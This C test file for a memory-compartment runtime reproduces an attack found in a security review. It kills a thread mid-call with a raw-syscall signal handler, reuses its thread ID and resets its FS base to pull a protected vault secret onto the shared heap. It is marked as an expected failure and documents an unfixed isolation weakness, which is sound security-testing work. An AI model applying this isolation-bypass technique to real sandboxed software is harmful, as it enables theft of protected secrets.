// The sharing-policy brackets are on the compartment's key, found by the
// thread's FS base and checked against gettid() (runtime/share.c): "a
// record whose thread ended with a bracket open is reset, not inherited by
// the next thread on that TLS block". Both halves are the default
// domain's to choose: the FS base with arch_prctl(ARCH_SET_FS) (or
// WRFSBASE), the thread id by having the kernel hand the dead thread's id
// to a new thread. So the default domain can end a thread while it is
// inside a function of the policy (no callback needed: here
// vault_read_header blocks in read() on a pipe the attacker never writes;
// a SIGUSR1 handler installed with the raw system call, on an alternate
// stack of its own, makes the exit system call), give a new thread the
// same id (any user: by going round the ids with forks, ids >= 300 only;
// as root: /proc/sys/kernel/ns_last_pid, which the supervisor no longer
// lets the program open for writing since review 30, so here a helper
// forked before the filter, standing in for the round of ids, sets it),
// point that thread's FS base at the
// dead thread's TLS block and call the vault's ordinary API: the record
// matches, its bracket is open, its frame lies above where the vault now
// runs (the dead thread's stack slot says where to continue, and the
// owner table knows the same thread id), and the vault's block, holding
// its secret, comes from the shared heap. The control: main's own
// allocation after the victim died stays on the vault's key. Found in the
// fifth review (attacker model B); reproduced in the QEMU guest (6.1) as
// root; as nobody the id cycle was too slow for the guest (untried).
//
// No sound fix fits Linux 6.1 (the guest's kernel); why, in
// docs/threat-model.md's row "Sharing-policy brackets": every identity the
// runtime sees (FS base, thread id, stack slot, stack owner) is the
// default domain's to recreate; the dead thread's frames on the vault's
// stack stay intact and the slot can continue the vault's stack below
// them, so a frame-liveness check passes too; and the
// supervisor does not see every way a thread ends (exit, exit_group, a
// seccomp kill of the program's own filter, a signal to a CLONE_VM
// process). On 6.9 or later, the thread's pidfs inode number
// (PIDFD_THREAD) would name it once.
// XFAIL: *
// REQUIRES: pku
// RUN: rm -rf %t && mkdir -p %t
// RUN: echo "vault_read_header" > %t/policy
// RUN: %bulkhead_clang -fpkey-compartments -fpkey-share=%t/policy -O2 -pthread %s -o %t/a
// RUN: %run %t/a | FileCheck %s
// CHECK: control: main's block on key [[KEY:[0-9]+]]
// CHECK: the reborn thread's block on key [[KEY]]
// CHECK: attacks-review5-share-tid-reuse: ok
#include "Inputs/check.h"
#include "Inputs/tid-reuse.h"

#include <asm/prctl.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <sys/syscall.h>

BULKHEAD_DATA(vault) static char secret[32] = "the vault's secret 0123456789";

BULKHEAD_ENTRY(vault) char *vault_copy(void) {
  char *p = malloc(sizeof secret);
  if (p)
    memcpy(p, secret, sizeof secret);
  return p;
}

/* Named by the policy; no callback: it reads a header from fd. */
BULKHEAD_ENTRY(vault) long vault_read_header(int fd) {
  char b[16];
  return read(fd, b, sizeof b);
}

/* ------------------------------------------------- the default domain */

static int pfd[2];
static volatile pid_t victim_tid;
static volatile unsigned long victim_fs;
static char altstack[65536] __attribute__((aligned(16)));

/* The handler: the thread ends where it is (no stack used). */
__asm__(".text\n.type die_here,@function\ndie_here:\n\tmovl $60, %eax\n\txorl %edi, %edi\n"
        "\tsyscall\n\thlt\n.size die_here,.-die_here\n");
void die_here(void);

struct kernel_sigaction {
  void *handler;
  unsigned long flags;
  void *restorer;
  unsigned long mask;
};

static void *victim(void *unused) {
  (void)unused;
  stack_t ss = {.ss_sp = altstack, .ss_size = sizeof altstack};
  struct kernel_sigaction sa = {(void *)die_here, SA_ONSTACK | 0x04000000 /* SA_RESTORER */,
                                (void *)die_here, 0};
  CHECK(syscall(SYS_sigaltstack, &ss, NULL) == 0);
  CHECK(syscall(SYS_rt_sigaction, SIGUSR1, &sa, NULL, 8) == 0);
  unsigned long fs;
  CHECK(syscall(SYS_arch_prctl, ARCH_GET_FS, &fs) == 0);
  victim_fs = fs;
  victim_tid = gettid();
  vault_read_header(pfd[0]); /* blocks inside the policy: its bracket open */
  return NULL;
}

static char *got;

/* The dead thread again: its id (from the kernel), its FS base (ours). */
static void *reborn(void *unused) {
  (void)unused;
  if (gettid() != victim_tid) {
    printf("setup: the new thread is %d, not %d\n", gettid(), victim_tid);
    return NULL;
  }
  unsigned long own;
  syscall(SYS_arch_prctl, ARCH_GET_FS, &own);
  syscall(SYS_arch_prctl, ARCH_SET_FS, victim_fs);
  char *q = vault_copy();
  syscall(SYS_arch_prctl, ARCH_SET_FS, own);
  got = q;
  return NULL;
}

int main(void) {
  setvbuf(stdout, NULL, _IONBF, 0);
  int key = bulkhead_compartment_pkey("vault");
  CHECK(key > 0);
  CHECK(page_pkey(vault_copy()) == key);
  CHECK(pipe(pfd) == 0);
  pthread_t t;
  CHECK(pthread_create(&t, NULL, victim, NULL) == 0);
  while (!victim_tid)
    usleep(1000);
  usleep(300000); /* inside read */
  CHECK(syscall(SYS_tgkill, getpid(), victim_tid, SIGUSR1) == 0);
  wait_task_gone(victim_tid);
  printf("victim %d ended inside the policy\n", victim_tid);
  printf("control: main's block on key %d\n", page_pkey(vault_copy()));

  /* The victim's id for the next thread. */
  if (give_next_tid(victim_tid))
    return 1;
  pthread_t r;
  CHECK(pthread_create(&r, NULL, reborn, NULL) == 0);
  CHECK(pthread_join(r, NULL) == 0);
  CHECK(got);
  int k = page_pkey(got);
  printf("the reborn thread's block on key %d\n", k);
  if (k != key) {
    char s[30] = {0};
    memcpy(s, got, 29); /* the default domain reads it */
    printf("LEAK: the vault's block is shared: \"%s\"\n", s);
    return 1;
  }
  printf("attacks-review5-share-tid-reuse: ok\n");
  return 0;
}
